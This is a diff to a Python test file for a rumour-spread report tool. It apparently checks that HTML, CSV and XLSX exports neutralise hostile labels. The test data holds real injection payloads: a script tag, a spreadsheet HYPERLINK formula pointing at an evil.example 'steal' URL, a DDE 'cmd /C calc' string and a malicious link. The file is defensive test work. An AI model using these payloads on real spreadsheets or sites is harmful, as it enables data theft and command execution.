@@ -33,7 +33,8 @@ from rumourscope.report._files import sha256_file
 
 SCRIPT = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil.example/steal","click me")'
-HOSTILE = (SCRIPT, FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3")
+LINK = '<a href="https://evil.example/x">click</a>'
+HOSTILE = (SCRIPT, FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", LINK)
 QUANTITIES = ["views", "unique_viewers", "reposts", "groups_reached"]
 
 
@@ -90,7 +91,7 @@ def hostile_summary(source_folder: Path | None = None) -> ImpactSummary:
         ),
         thresholds=pd.DataFrame(
             {
-                "threshold": ["PRC 2013 views", f],
+                "threshold": [LINK, f],
                 "jurisdiction": ["PRC", s],
                 "legal_character": ["criminal", "civil"],
                 "quantity": ["views", "reposts"],
@@ -101,6 +102,18 @@ def hostile_summary(source_folder: Path | None = None) -> ImpactSummary:
                 "ci_low": [0.104, 0.0],
                 "ci_high": [0.145, 0.0021],
                 "mc_error": [0.0104, 0.0004],
+            }
+        ),
+        deletion_time=9.0,
+        deletion_curves=pd.DataFrame(
+            {
+                "scenario": ["as happened"] * 2 + [LINK] * 2,
+                "deletion_time": [9.0, 9.0, np.nan, np.nan],
+                "time": [0.0, 10.0] * 2,
+                "quantity": ["views"] * 4,
+                "p5": [0.0, 10.0, 0.0, 12.0],
+                "p50": [0.0, 20.0, 0.0, 25.0],
+                "p95": [0.0, 30.0, 0.0, 40.0],
             }
         ),
         deletion=pd.DataFrame(
@@ -142,11 +155,11 @@ def hostile_summary(source_folder: Path | None = None) -> ImpactSummary:
         ),
         curves=pd.DataFrame(
             {
-                "time": [0.0, 1.0, 2.0],
-                "quantity": ["views"] * 3,
-                "p5": [0.0, 1.0, 2.0],
-                "p50": [0.0, 5.0, 9.0],
-                "p95": [0.0, 20.0, 40.0],
+                "time": [0.0, 1.0, 2.0] * 2,
+                "quantity": ["views"] * 3 + ["reposts"] * 3,
+                "p5": [0.0, 1.0, 2.0, 0.0, 0.0, 0.0],
+                "p50": [0.0, 5.0, 9.0, 0.0, 1.0, 1.0],
+                "p95": [0.0, 20.0, 40.0, 0.0, 2.0, 3.0],
             }
         ),
         totals=pd.DataFrame(
@@ -232,6 +245,10 @@ def test_hostile_strings_are_inert_in_html(report):
     # every script is plotly.js or a figure; none carries the hostile text as code
     assert not any("alert(1)" in body for body in parsed.scripts)
     assert "<title>Spread of the post: Li v Wang &lt;script&gt;" in html
+    # figures draw user labels as text: plotly would turn a raw <a href> into a live link
+    assert html.count('id="figure-') == 3
+    assert "\\u003ca href" not in html
+    assert '"text":"&lt;a href=&quot;https:\\u002f\\u002fevil.example' in html
 
 
 def _csv_cells(folder: Path) -> list[str]:
@@ -244,7 +261,7 @@ def _csv_cells(folder: Path) -> list[str]:
 
 def test_hostile_strings_are_inert_in_csv_and_xlsx(report):
     cells = _csv_cells(report.folder)
-    for text in HOSTILE[1:]:
+    for text in HOSTILE[1:5]:
         assert "'" + text in cells
         assert text not in cells
     assert not [c for c in cells if c[:1] in ("=", "+", "@") or re.match(r"-[^\d.]", c)]
